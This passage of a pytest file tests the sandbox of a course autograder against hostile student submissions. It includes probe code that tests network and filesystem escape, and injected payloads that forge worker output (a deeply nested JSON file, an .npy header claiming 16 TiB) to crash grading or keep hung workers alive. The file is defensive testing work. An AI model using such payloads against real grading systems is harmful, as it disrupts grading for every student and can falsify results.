        s = socket.socket(family, socket.SOCK_STREAM)
        s.bind(address)
        s.listen(16)
        self.socks.append(s)
        return s

    def _serve(self):
        while not self.stop.is_set():
            ready, _, _ = select.select(self.socks, [], [], 0.2)
            for s in ready:
                conn, addr = s.accept()
                self.hits.append(f"{s.getsockname()!r} <- {addr!r}")
                conn.close()

    def self_test(self) -> bool:
        """The servers do accept connections (so that 'no connection' means something)."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=5):
            pass
        deadline = time.time() + 5
        while not self.hits and time.time() < deadline:
            time.sleep(0.05)
        ok = bool(self.hits)
        self.hits.clear()
        return ok

    def close(self):
        self.stop.set()
        self.thread.join(5)
        for s in self.socks:
            s.close()


def digest_tree(folder: Path) -> dict[str, str]:
    """Content digest per file (symlinks by target, never followed), without bytecode caches."""
    out = {}
    if not folder.exists():
        return out
    for dirpath, dirnames, filenames in os.walk(folder):
        dirnames[:] = [d for d in dirnames if d != "__pycache__"]
        for name in filenames + [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]:
            p = Path(dirpath) / name
            rel = p.relative_to(folder).as_posix()
            if p.is_symlink():
                out[rel] = "link:" + os.readlink(p)
            elif p.is_file():
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


DEFINITION_TABLES = ("assignment", "base_cell", "course", "grade_cells", "notebook", "solution_cells",
                     "source_cell", "task_cells", "alembic_version")


def gradebook_definitions(course: Course) -> dict:
    """The gradebook's tables that only generate_assignment writes (autograde must leave them alone)."""
    con = sqlite3.connect(course.course_dir / "gradebook.db")
    try:
        return {t: sorted(map(repr, con.execute(f"SELECT * FROM {t}"))) for t in DEFINITION_TABLES}
    finally:
        con.close()


def host_state(course: Course) -> dict:
    """What no submission may change: the instructor's package and source, every submission, the release."""
    c = course
    return {"package": digest_tree(c.package), "source": digest_tree(c.course_dir / "source"),
            "submitted": digest_tree(c.submitted), "release": digest_tree(c.release(A1)),
            "config": digest_tree(c.course_dir / "examples") | {"nbgrader_config.py": hashlib.sha256(
                (c.course_dir / "nbgrader_config.py").read_bytes()).hexdigest()},
            "gradebook": gradebook_definitions(c)}


def processes_with(token: str) -> list[str]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                cmdline = (proc / "cmdline").read_bytes()
            except OSError:
                continue
            if token.encode() in cmdline and str(os.getpid()) != proc.name:
                text = cmdline.replace(b"\0", b" ").decode(errors="replace")
                found.append(f"{proc.name}: {text[:200]}")
    return found


def leftover_cgroups() -> list[str]:
    """The sandboxes' cgroups of this process that still exist: a process in them survived the run."""
    pattern = f"cs231n-grader-{os.getpid()}-*"
    return sorted(str(d) for root in sandbox._cgroup_roots().values() for d in root.glob(pattern))


def require_sandbox() -> None:
    """Fail (in CI) or skip (elsewhere) when this machine cannot sandbox hostile code."""
    problems = sandbox.warnings()
    if problems:
        message = "the sandbox is incomplete on this machine: " + "; ".join(problems)
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)


HONEST = "honest_deleted_test_cell"


def build_honest_deleted_cell(course: Course, reference) -> None:
    """Not an attack: the reference's kNN answers, with the first test cell deleted by mistake."""
    folder = course.submitted / HONEST / A1
    build_example(course, A1, reference, folder)
    for nb in folder.glob("*.ipynb"):
        if nb.name != "knn.ipynb":
            nb.unlink()
    nb = nbformat.read(folder / "knn.ipynb", as_version=4)
    nb.cells.remove(graded_cells(nb)[0])
    nbformat.write(nb, folder / "knn.ipynb")


def build_hostile(ctx: Ctx, attack: Attack) -> Path:
    course = ctx.course
    folder = course.submitted / attack.name / A1
    shutil.copytree(course.release(A1), folder)
    if not attack.all_notebooks:
        for nb in folder.glob("*.ipynb"):
            if nb.name != "knn.ipynb":
                nb.unlink()
    sub = Submission(ctx, folder)
    sub.notebook(lambda nb: nb.cells.append(nbformat.v4.new_code_cell(EVIDENCE_CELL)))
    attack.build(ctx, sub)
    return folder


def step_seconds(out: Path) -> dict[str, float]:
    """How long each step of a worker took, from its event log (the reference's: plain data)."""
    started, took = {}, {}
    path = out / "events.jsonl"
    for line in path.read_text().splitlines() if path.exists() else []:
        event = json.loads(line)
        if event["event"] == "start":
            started[event["step"]] = event["t"]
        elif event["event"] == "end" and event["step"] in started:
            took[event["step"]] = round(event["t"] - started[event["step"]], 2)
    return took


def syntax_errors(folder: Path) -> list[str]:
    """Attack code that is not valid Python (an attack that never runs would pass vacuously)."""
    errors = []
    sources = [(p, p.read_text()) for p in folder.rglob("*.py") if p.is_file() and not p.is_symlink()]
    for nb_path in folder.glob("*.ipynb"):
        if not nb_path.is_symlink():
            sources += [(f"{nb_path.name} cell {i}", c.source) for i, c in
                        enumerate(nbformat.read(nb_path, as_version=4).cells) if c.cell_type == "code"]
    from IPython.core.inputtransformer2 import TransformerManager  # magics, as the worker reads them
    for where, source in sources:
        try:
            compile(TransformerManager().transform_cell(source), str(where), "exec")
        except SyntaxError as err:
            errors.append(f"{where}: {err}")
    return errors


def verdict_files(course: Course, student: str) -> dict[str, dict]:
    folder = course.verdicts / student / A1
    return {p.stem: json.loads(p.read_text()) for p in sorted(folder.glob("*.json"))
            if not p.name.endswith(".cells.json") and p.name != grade.INTAKE_NOTES}


def checks_of(verdict: dict) -> dict:
    """Every check of a verdict: (cell, name) -> (score, points, passed, message)."""
    return {(cell, c["name"]): (c["score"], c["points"], c["passed"], c["message"])
            for cell, entry in verdict["cells"].items() for c in entry["checks"]}


def recorded_notebooks(course: Course, student: str) -> set[str]:
    """Notebooks of a student whose every autograded cell has a score in the gradebook."""
    from nbgrader.api import Gradebook, MissingEntry
    with Gradebook(course.gradebook_url, "cs231n") as gb:
        try:
            submission = gb.find_submission(A1, student)
        except MissingEntry:
            return set()
        return {nb.name for nb in submission.notebooks
                if nb.grades and all(g.auto_score is not None for g in nb.grades if g.cell.cell_type == "code")}


def handed_in(course: Course, student: str) -> set[str]:
    return {p.stem for p in (course.intake / student / A1).glob("*.ipynb")}


def attack_log(course: Course, student: str) -> str:
    """What the attack code logged (the output of the evidence cell of knn.ipynb)."""
    path = course.verdicts / student / A1 / "knn.cells.json"
    if not path.exists():
        return ""
    for record in json.loads(path.read_text()):
        if record["stdout"].startswith(LOG_MARK):
            return record["stdout"]
    return ""


@dataclass
class Run:
    course: Course
    alone: Course
    results: dict
    alone_results: dict
    before: dict
    after: dict
    ctx: Ctx
    hits: list
    leftovers: list
    seconds: float
    alone_seconds: float
    listener_ok: bool
    table: str = ""
    extra: dict = field(default_factory=dict)


def outcome_table(run: Run) -> str:
    rows = [("student", "score", "graded", "infra", "seconds", "problems")]
    for name, r in run.results.items():
        vs = verdict_files(run.course, name)
        problems = [p for v in vs.values() for p in v["problems"] if "is missing or cannot be read" not in p]
        problems += [n for n in r.notes + r.infrastructure if not re.match(r"\w+\.ipynb is missing", n)]
        rows.append((name, f"{r.auto_score:g}/{r.auto_max:g}", "yes" if r.graded else "NO",
                     str(len(r.infrastructure)) if r.infrastructure else "",
                     f"{sum(v['seconds'] for v in vs.values()):.0f}",
                     (problems[0][:110] + (f" (+{len(problems) - 1})" if len(problems) > 1 else ""))
                     if problems else ""))
    widths = [max(len(row[i]) for row in rows) for i in range(len(rows[0]))]
    lines = ["  ".join(cell.ljust(w) for cell, w in zip(row, widths)).rstrip() for row in rows]
    lines.insert(1, "  ".join("-" * w for w in widths))
    return "\n".join(lines)


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Run:
    require_sandbox()
    base = tmp_path_factory.mktemp("hostile")
    course = copy_course(base / "course")
    expected_cache: dict = {}
    real_reference = verdicts.reference

    def cached_reference(c, assignment, notebook):
        # The instructor's package is the same in every course of this module and the reference runs
        # before any submission does: compute each notebook's expected data once, not three times.
        if (assignment, notebook) not in expected_cache:
            expected_cache[assignment, notebook] = real_reference(c, assignment, notebook)
        return copy.deepcopy(expected_cache[assignment, notebook])

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(verdicts, "reference", cached_reference)
        release_assignment(course, A1)
    alone = Course(base / "alone")  # the same release, graded with the reference only
    shutil.copytree(course.root, alone.root, symlinks=True)
    examples = {e.student: e for e in load_examples(course, A1)}
    for c, names in ((course, ("reference", "release")), (alone, ("reference",))):
        for name in names:
            build_example(c, A1, examples[name], c.submitted / name / A1)
    build_honest_deleted_cell(course, examples["reference"])

    token = uuid.uuid4().hex[:12]
    listener = Listener(token)
    ctx = Ctx(course, token, listener)
    try:
        listener_ok = listener.self_test()
        syntax = {}
        for attack in ATTACKS.values():
            syntax[attack.name] = syntax_errors(build_hostile(ctx, attack))
        before = host_state(course)
        phases, alone_box, steps = {}, {}, {}
        real_record, real_run = grade.record, sandbox.run

        def grade_alone():
            t = time.monotonic()
            try:
                alone_box["results"] = {r.student: r for r in grade_assignment(alone, A1, jobs=ALONE_JOBS,
                                                                               log=lambda *a: None)}
            except BaseException as err:  # re-raised in the fixture
                alone_box["error"] = err
            alone_box["seconds"] = time.monotonic() - t

        def timed_record(c, *args, **kwargs):
            # When the main run starts recording, every sandbox of it has ended: grade the reference
            # alone now, on the core that nbgrader's recording leaves idle (no hostile code runs any more).
            if c.root == course.root:
                alone_box["thread"] = threading.Thread(target=grade_alone)
                alone_box["thread"].start()
            t = time.monotonic()
            try:
                return real_record(c, *args, **kwargs)
            finally:
                phases[c.root.name] = time.monotonic() - t

        def timed_run(argv, work, out, *args, **kwargs):
            """sandbox.run, noting how long each step of the reference's worker took."""
            outcome = real_run(argv, work, out, *args, **kwargs)
            frame = sys._getframe(1)
            while frame is not None and frame.f_code.co_name != "grade_notebook":
                frame = frame.f_back
            if frame is not None and frame.f_locals.get("student") == "reference":
                key = (frame.f_locals["course"].root.name, frame.f_locals["spec"].name)
                steps.setdefault(key, {}).update(step_seconds(Path(out)))
            return outcome

        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(verdicts, "STEP_SECONDS", STEP_SECONDS)
            mp.setattr(verdicts, "reference", cached_reference)
            mp.setattr(grade, "record", timed_record)
            mp.setattr(sandbox, "run", timed_run)
            t0 = time.monotonic()
            try:
                results = {r.student: r for r in grade_assignment(course, A1, jobs=2, log=lambda *a: None)}
                seconds = time.monotonic() - t0
            finally:
                if "thread" in alone_box:
                    alone_box["thread"].join()
        if "error" in alone_box:
            raise alone_box["error"]
        alone_results, alone_seconds = alone_box["results"], alone_box["seconds"]
        after = host_state(course)
        time.sleep(0.5)
        leftovers = processes_with(token) + leftover_cgroups()
    finally:
        listener.close()
    result = Run(course, alone, results, alone_results, before, after, ctx, list(listener.hits), leftovers,
                 seconds, alone_seconds, listener_ok)
    result.table = outcome_table(result)
    result.extra["expected"] = expected_cache
    result.extra["syntax"] = syntax
    slowest = {where: max(((t, s) for (c, nb), st in steps.items() if c == where for s, t in st.items()),
                          default=(0.0, "-")) for where in (course.root.name, alone.root.name)}
    (among, among_step), (alone_took, alone_step) = slowest[course.root.name], slowest[alone.root.name]
    print(f"\nhostile run: {len(results)} submissions in {seconds:.0f} s (jobs=2, {STEP_SECONDS} s per step; "
          f"nbgrader recording {phases[course.root.name]:.0f} s); the reference alone in {alone_seconds:.0f} s "
          f"(jobs={ALONE_JOBS}, while the first run recorded). Slowest step of the reference: {among_step} "
          f"{among:.1f} s among the attacks, {alone_step} {alone_took:.1f} s alone\n{result.table}")
    return result


# =================================================================== the tests

def test_the_sandbox_is_complete_on_this_machine(tmp_path):
    """bwrap, prlimit and cgroups are in place (a failure in CI, a skip elsewhere), and a
    sandboxed process really is isolated."""
    require_sandbox()
    work, out = tmp_path / "work", tmp_path / "out"
    work.mkdir()
    out.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("host")
    probe = textwrap.dedent(f"""
        import json, os, socket
        facts = {{"cwd": os.getcwd(), "pid": os.getpid(), "secret": os.path.exists({str(secret)!r}),
                  "repo": os.path.exists({str(REPO_ROOT / "cs231n")!r})}}
        try:
            socket.create_connection(("1.1.1.1", 80), timeout=2)
            facts["net"] = True
        except OSError:
            facts["net"] = False
        try:
            open("/usr/hostile-probe", "w")
            facts["usr_writable"] = True
        except OSError:
            facts["usr_writable"] = False
        json.dump(facts, open("/out/facts.json", "w"))
        """)
    (work / "probe.py").write_text(probe)
    argv, _, _ = sandbox.command([sys.executable, "probe.py"], work, out, sandbox.Limits())
    outcome = sandbox.run(argv, work, out, sandbox.Limits(wall_seconds=60))
    assert outcome.returncode == 0, outcome
    facts = json.loads((out / "facts.json").read_text())
    assert facts == {"cwd": "/submission", "pid": facts["pid"], "secret": False, "repo": False, "net": False,
                     "usr_writable": False}
    assert facts["pid"] < 10, "the sandbox has no PID namespace of its own"


def test_every_submission_is_graded_in_one_run(run):
    assert set(run.results) == set(ATTACKS) | {"reference", "release", HONEST}
    assert len(ATTACKS) >= 17
    assert run.listener_ok, "the test's TCP server did not accept a connection from the host itself"


def test_reference_gets_full_marks_alongside_the_attacks(run):
    ref = run.results["reference"]
    assert ref.graded and ref.infrastructure == [] and ref.notes == []
    assert {nb.name for nb in ref.notebooks} == set(run.course.notebooks(A1))
    failed = {(name, key): check for name, verdict in verdict_files(run.course, "reference").items()
              for key, check in checks_of(verdict).items() if not check[2]}
    assert failed == {}, f"the reference failed checks while graded among the attacks ({STEP_SECONDS} s per step)"
    for nb in ref.notebooks:
        assert nb.auto_max > 0 and nb.auto_score == nb.auto_max, nb


def test_reference_verdicts_are_the_same_as_when_graded_alone(run):
    together, alone = verdict_files(run.course, "reference"), verdict_files(run.alone, "reference")
    assert set(together) == set(alone) == set(run.course.notebooks(A1))
    for name in together:
        assert together[name]["status"] == alone[name]["status"] == "graded"
        assert together[name]["problems"] == alone[name]["problems"] == []
        assert checks_of(together[name]) == checks_of(alone[name]), name
    assert run.alone_results["reference"].auto_score == run.results["reference"].auto_score


def test_untouched_release_scores_zero(run):
    release = run.results["release"]
    assert release.graded and release.infrastructure == [] and release.auto_score == 0
    assert release.auto_max == run.results["reference"].auto_max


def test_host_paths_are_untouched(run):
    for part in run.before:
        assert run.after[part] == run.before[part], f"{part} was modified during grading"
    assert [p for p in run.ctx.pwned() if p.exists()] == []


def test_the_gradebook_holds_no_forged_points(run):
    con = sqlite3.connect(run.course.course_dir / "gradebook.db")
    try:
        forged = con.execute("SELECT * FROM grade WHERE extra_credit IS NOT NULL AND extra_credit != 0").fetchall()
        students = {row[0] for row in con.execute("SELECT id FROM student")}
    finally:
        con.close()
    assert forged == []
    assert students <= set(run.results)


def test_no_network_connection_reached_the_host(run):
    assert run.hits == []


def test_no_process_outlives_the_grading(run):
    assert run.leftovers == []


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_code_is_valid_python(run, name):
    assert run.extra["syntax"][name] == []


@pytest.mark.parametrize("name", list(ATTACKS))
def test_hostile_submission_scores_zero(run, name):
    result = run.results[name]
    assert result.auto_score == 0, (name, [(nb.name, nb.checks) for nb in result.notebooks])
    for notebook, verdict in verdict_files(run.course, name).items():
        assert all(entry["score"] == 0 for entry in verdict["cells"].values()), (name, notebook)


@pytest.mark.parametrize("name", [
    pytest.param(a.name, marks=pytest.mark.xfail(strict=True, reason=f"grader bug: {a.blamed_on_grader}"))
    if a.blamed_on_grader else a.name for a in ATTACKS.values()])
def test_hostile_submission_is_recorded_as_its_own_failure(run, name):
    result = run.results[name]
    assert result.graded, name
    assert result.infrastructure == [], result.infrastructure
    assert recorded_notebooks(run.course, name) >= handed_in(run.course, name), "nbgrader failed on a notebook"
    assert result.leaks == []
    assert {v["status"] for v in verdict_files(run.course, name).values()} <= {"graded", "missing"}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_hostile_feedback_is_small_and_says_what_happened(run, name):
    attack = ATTACKS[name]
    folder = run.course.feedback / name / A1
    summary = (folder / SUMMARY).read_text()
    for pattern in attack.summary:
        assert re.search(pattern, summary), f"{pattern!r} not in the summary of {name}:\n{summary}"
    for path in list(folder.rglob("*")) + list((run.course.verdicts / name).rglob("*")):
        if path.is_file():
            assert path.stat().st_size < MAX_FEEDBACK_BYTES, path


@pytest.mark.parametrize("name", [a.name for a in ATTACKS.values() if a.evidence or a.never])
def test_attack_code_ran_and_was_contained(run, name):
    attack, log = ATTACKS[name], attack_log(run.course, name)
    for pattern in attack.evidence:
        assert re.search(pattern, log), f"{pattern!r} not in the log of {name}:\n{log}"
    for pattern in attack.never:
        assert not re.search(pattern, log), f"{pattern!r} in the log of {name}:\n{log}"


def test_the_memory_of_the_whole_sandbox_is_limited(run):
    """memory_hog's three 1.5 GB processes exceed the sandbox's 4 GB together: the kernel kills one."""
    if "memory" not in sandbox._cgroup_roots():
        pytest.skip("no memory cgroup: only the address space of each process is limited")
    log = attack_log(run.course, "memory_hog")
    summary = (run.course.feedback / "memory_hog" / A1 / SUMMARY).read_text()
    assert "CHILD killed by signal 9" in log, log + summary


# =================================================================== known grader bugs, one submission each
#
# These break the run for everyone or mislead the instructor, so they are not in the run above: each is
# checked on its own, and is expected to fail until the grader is fixed (strict: a fix makes them pass,
# and then the xfail mark must go).

NBGRADER_RESTORE_BUG = (
    "a deleted test cell that follows a locked, ungraded cell (knn's setup) makes nbgrader 0.9.6's "
    "OverwriteCells.add_missing_grade_cells raise KeyError; autograde drops the whole notebook, the gradebook "
    "shows 0 for it although its verdicts earned points, and grade.record notices only when no notebook of the "
    "student was recorded (StudentResult.graded)")


def test_an_honest_student_who_deleted_a_test_cell_keeps_the_points(run):
    verdict = verdict_files(run.course, HONEST)["knn"]
    earned = sum(cell["score"] for cell in verdict["cells"].values())
    assert earned == sum(cell["points"] for cell in verdict["cells"].values()) > 0  # the checks all passed
    result = run.results[HONEST]
    knn = next(nb for nb in result.notebooks if nb.name == "knn")
    assert knn.auto_score == earned or result.infrastructure, (knn, result.infrastructure)


def forged_file_code(kind: str) -> str:
    """cs231n/__init__.py code that writes a malformed file where the grader reads the worker's output."""
    body = {
        # the event log is read five times a second while the worker runs
        "event_not_an_object": """
            open(_out + "/events.jsonl", "a").write("[1]\\n")
            _time.sleep(3)
            """,
        "event_time_not_a_number": """
            open(_out + "/events.jsonl", "a").write('{"event": "start", "step": "import", "t": "soon"}\\n')
            _time.sleep(3)
            """,
        # observations are read after the worker ends
        "observation_nested_too_deep": """
            import numpy as _np
            with open(_out + "/check-two_loops_toy.npz", "wb") as _f:
                _np.savez(_f, __struct__=_np.array("[" * 100000 + "]" * 100000))
            _os._exit(0)
            """,
        "observation_claims_16_tib": """
            import io as _io, zipfile as _zipfile, numpy as _np

            def _npy(write):
                buffer = _io.BytesIO()
                write(buffer)
                return buffer.getvalue()

            _struct = _np.array('{"__dict__": {"kind": "value", "value": {"__array__": "a0"}}}')
            _header = {"descr": "<f8", "fortran_order": False, "shape": (2**41,)}
            with _zipfile.ZipFile(_out + "/check-two_loops_toy.npz", "w") as _z:
                _z.writestr("__struct__.npy", _npy(lambda b: _np.lib.format.write_array(b, _struct)))
                _z.writestr("a0.npy", _npy(lambda b: _np.lib.format.write_array_header_1_0(b, _header)) + bytes(64))
            _os._exit(0)
            """,
    }[kind]
    return ("import os as _os, sys as _sys, time as _time\n"
            "_out = _sys.argv[1] if len(_sys.argv) > 1 else ''\n"
            "if _os.getcwd() == '/submission' and _out:\n"
            + textwrap.indent(textwrap.dedent(body).strip(), "    ") + "\n")


FORGED_FILES = {
    "event_not_an_object": (AttributeError, "cs231n/checks/local.py read_events calls event.get() on any JSON "
                            "line, so a line '[1]' appended to /out/events.jsonl raises AttributeError in the "
                            "grader (verdicts' watch) and aborts grade_assignment for every student"),
    "event_time_not_a_number": (TypeError, "verdicts._run_worker's watch computes time.time() - state['since'] "
                                "with the event's own 't', so a forged event with a string 't' raises TypeError "
                                "and aborts grade_assignment"),
    "observation_nested_too_deep": (RecursionError, "codec.load does not catch RecursionError from json.loads of "
                                    "a deeply nested __struct__, so a forged check file aborts grade_assignment"),
    "observation_claims_16_tib": (MemoryError, "codec.load lets numpy preallocate the shape an .npy header "
                                  "claims (16 TiB here) and does not catch MemoryError, so a forged check file "
                                  "aborts grade_assignment"),
}


@pytest.fixture(scope="module")
def knn_expected(run):
    return verdicts.notebook_spec(run.course, A1, "knn"), run.extra["expected"][A1, "knn"]


def release_copy(course: Course, name: str) -> Path:
    folder = course.submitted / name / A1
    shutil.copytree(course.release(A1), folder)
    for nb in folder.glob("*.ipynb"):
        if nb.name != "knn.ipynb":
            nb.unlink()
    return folder


@pytest.mark.parametrize("kind", list(FORGED_FILES))
def test_forged_worker_output_does_not_stop_the_grading(run, knn_expected, kind):
    course, name = run.course, f"forged_{kind}"
    folder = release_copy(course, name)
    init = folder / "cs231n" / "__init__.py"
    init.write_text(init.read_text() + "\n" + forged_file_code(kind))
    grade.prepare_intake(course, A1, name)
    spec, expected = knn_expected
    verdict = verdicts.grade_notebook(course, A1, name, spec, expected)
    assert verdict["status"] == "graded"
    assert sum(cell["score"] for cell in verdict["cells"].values()) == 0


def test_forged_events_do_not_keep_a_hung_worker_alive(run, knn_expected, monkeypatch):
    course, name = run.course, "forged_fresh_events"
    folder = release_copy(course, name)
    (folder / "cs231n" / "__init__.py").write_text(textwrap.dedent("""\
        import json, os, signal, sys, threading, time
        if os.getcwd() == "/submission" and len(sys.argv) > 1:
            signal.setitimer(signal.ITIMER_REAL, 0)  # no per-step alarm

            def keep_fresh():
                while True:
                    with open(sys.argv[1] + "/events.jsonl", "a") as f:
                        f.write(json.dumps({"event": "start", "step": "import", "t": time.time()}) + "\\n")
                    time.sleep(0.5)

            threading.Thread(target=keep_fresh, daemon=True).start()
            while True:
                time.sleep(0.1)
        """))
    grade.prepare_intake(course, A1, name)
    spec, expected = knn_expected
    spec = dataclasses.replace(spec, step_seconds=1)
    verdict = verdicts.grade_notebook(course, A1, name, spec, expected, sandbox.Limits(wall_seconds=14))
    assert sum(cell["score"] for cell in verdict["cells"].values()) == 0
    # the watch stops a step that ignores its alarm after step_seconds + 10 = 11 s, before the wall clock
    assert any("did not stop when interrupted" in p for p in verdict["problems"]), verdict["problems"]


MALFORMED = {
    "named_pipe": (shutil.Error, lambda f: os.mkfifo(f / "pipe"),
                   "prepare_intake's copytree raises shutil.Error on a FIFO and aborts grade_assignment"),
    "notebook_is_a_folder": (IsADirectoryError, lambda f: ((f / "knn.ipynb").unlink(), (f / "knn.ipynb").mkdir()),
                             "prepare_intake calls Path.unlink() on a folder named knn.ipynb"),
    "module_is_a_folder": (IsADirectoryError, lambda f: ((f / KNN).unlink(), (f / KNN).mkdir()),
                           "prepare_intake's syntax check reads a folder named k_nearest_neighbor.py"),
    "grade_id_is_a_list": (TypeError, lambda f: set_nbgrader_metadata(f, {"grade": True, "grade_id": ["x"]}),
                           "drop_duplicate_cells hashes the student's grade_id"),
    "nbgrader_metadata_is_a_string": (AttributeError, lambda f: set_nbgrader_metadata(f, "x"),
                                      "drop_duplicate_cells calls .get() on the student's nbgrader metadata"),
}


def set_nbgrader_metadata(folder: Path, value) -> None:
    nb = nbformat.read(folder / "knn.ipynb", as_version=4)
    nb.cells[3].metadata["nbgrader"] = value
    nbformat.write(nb, folder / "knn.ipynb")


@pytest.mark.parametrize("kind", list(MALFORMED))
def test_a_malformed_submission_does_not_stop_the_intake(run, kind):
    course, name = run.course, f"malformed_{kind}"
    folder = release_copy(course, name)
    MALFORMED[kind][1](folder)
    notes, _ = grade.prepare_intake(course, A1, name)
    assert notes
